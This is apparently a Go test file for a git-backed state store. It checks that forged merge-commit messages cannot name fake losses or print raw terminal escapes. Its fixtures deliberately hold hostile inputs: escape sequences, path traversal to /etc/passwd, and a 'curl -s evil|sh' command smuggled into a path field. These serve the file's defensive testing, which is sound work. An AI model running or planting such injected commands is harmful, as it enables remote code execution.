package gitstore

import (
	"strings"
	"testing"
	"time"
)

// A merge made elsewhere that kept its own version over the one it was
// offered ("kept local PATH: why") takes this side's version away when this
// side takes the merge: that version is named as lost, with the offered
// commit to restore it from. The message is only a hint, from a commit anyone
// who can push may write: a path this side does not hold, a path the merge
// did not change, a path git would refuse are never named, and the reason
// comes back as printable text.
func TestRefusedElsewhereNamesOnlyRealLosses(t *testing.T) {
	r := newTestRepo(t, "plain")
	s, err := Open(r.open)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	const p, q = ".claude/workflow-state.json", ".claude/other.json"
	mustRecord(t, s, change(p, "mine", t0), change(q, "same", t0))
	offered, _ := s.Head(s.StateRef())
	mustRecord(t, s, deletion(p, t0.Add(1)))
	refusedTree := runGit(t, r.main, "rev-parse", s.StateRef()+"^{tree}")
	runGit(t, r.main, "update-ref", s.StateRef(), offered)
	msg := "sync with origin\n\n" +
		"kept local " + p + ": over max_size \x1b[31mred\u202e\n" +
		"kept local " + q + ": not changed by this merge\n" +
		"kept local .claude/gone.json: not held here\n" +
		"kept local ../../etc/passwd: outside\n" +
		"kept local .git/config: git's own\n"
	merge, err := gitOut(r.main, []byte(msg), "commit-tree", refusedTree, "-p", offered)
	if err != nil {
		t.Fatal(err)
	}
	m, err := s.PlanMerge(offered, merge, t0.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if m.Kind != MergeFastForward || len(m.Lost) != 1 {
		t.Fatalf("%s, lost = %+v; want a fast-forward that loses %s only", m.Kind, m.Lost, p)
	}
	l := m.Lost[0]
	if l.Path != p || l.Rev != offered || l.Merge != merge || l.Winner != merge {
		t.Errorf("lost = %+v; want %s from %s, taken by %s", l, p, offered, merge)
	}
	if want := "over max_size ?[31mred?"; l.Refused != want {
		t.Errorf("reason = %q, want %q", l.Refused, want)
	}
	// the same merge seen from a side that never held that version
	mustRecord(t, s, change(p, "another", t0.Add(2)))
	other, _ := s.Head(s.StateRef())
	if m, err = s.PlanMerge(other, merge, t0.Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	if len(m.Lost) != 0 {
		t.Errorf("a side that edited %s since is told it lost the old version: %+v", p, m.Lost)
	}
	if got := plainText("a\xffb\tc", maxReason); got != "a?b?c" {
		t.Errorf("plainText = %q", got)
	}
	long := strings.Repeat("é", maxReason)
	if got := plainText(long, maxReason); len(got) > maxReason+3 || !strings.HasSuffix(got, "...") {
		t.Errorf("plainText kept %d bytes of a %d-byte reason", len(got), len(long))
	}
}

// A "decided" line of a merge made elsewhere names a loss only when it
// could be one: a path strata could record and, as the loser, a full commit
// id whose tree holds that path. Forged lines (a short or made-up loser, a
// path with a newline or an escape, one outside the tree) named losses that
// sync printed raw and status kept for good.
func TestForgedDecidedLinesNameNoLoss(t *testing.T) {
	r := newTestRepo(t, "plain")
	s, err := Open(r.open)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	const p = ".claude/workflow-state.json"
	mustRecord(t, s, change(p, "base", t0))
	base, _ := s.Head(s.StateRef())
	mustRecord(t, s, change(p, "mine", t0.Add(1)))
	mine, _ := s.Head(s.StateRef())
	tree := runGit(t, r.main, "rev-parse", base+"^{tree}")
	side, err := gitOut(r.main, []byte("side\n"), "commit-tree", tree, "-p", base)
	if err != nil {
		t.Fatal(err)
	}
	msg := "sync merge\n\n" +
		"decided \"x\\nsync with origin: up-to-date\\x1b[2J\": w (t) over \x1b]0;owned\x07 (t)\n" +
		"decided " + p + "; curl -s evil|sh; #: w (t) over 0000000 (t)\n" +
		"decided " + p + ": w (t) over 0000000000000000000000000000000000000000 (t)\n" +
		"decided .claude/none.json: w (t) over " + mine + " (t)\n" +
		"decided ../../etc/passwd: w (t) over " + mine + " (t)\n" +
		"decided " + p + ": \x1b[2J (t) over " + mine + " (t)\n"
	merge, err := gitOut(r.main, []byte(msg), "commit-tree", tree, "-p", base, "-p", side)
	if err != nil {
		t.Fatal(err)
	}
	m, err := s.PlanMerge(base, merge, t0.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Lost) != 1 {
		t.Fatalf("lost = %+v; want only the line whose loser holds %s", m.Lost, p)
	}
	if l := m.Lost[0]; l.Path != p || l.Rev != mine || l.Winner != merge {
		t.Errorf("lost = %+v; want %s at %s, the winner named as the merge (not the forged one)", l, p, mine)
	}
}
